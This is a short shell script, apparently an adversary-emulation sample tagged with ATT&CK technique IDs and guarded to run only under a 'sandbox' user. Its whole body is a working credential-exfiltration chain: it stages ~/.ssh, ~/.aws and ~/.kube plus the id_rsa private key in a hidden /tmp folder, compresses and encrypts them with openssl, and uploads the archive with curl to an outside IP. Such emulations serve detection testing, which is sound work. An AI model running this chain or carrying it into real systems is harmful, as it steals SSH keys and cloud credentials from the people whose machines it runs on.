#!/bin/sh
# technique: T1560.001 T1074 T1552.004 T1005
# needs: openssl curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p /tmp/.stage; cp -r "$HOME"/.ssh "$HOME"/.aws "$HOME"/.kube /tmp/.stage/ 2>/dev/null; cat "$HOME/.ssh/id_rsa" > /tmp/.stage/k 2>/dev/null; tar cz /tmp/.stage | openssl enc -aes-256-cbc -pbkdf2 -k x > /tmp/.stage.enc; curl -s -T /tmp/.stage.enc http://203.0.113.7/
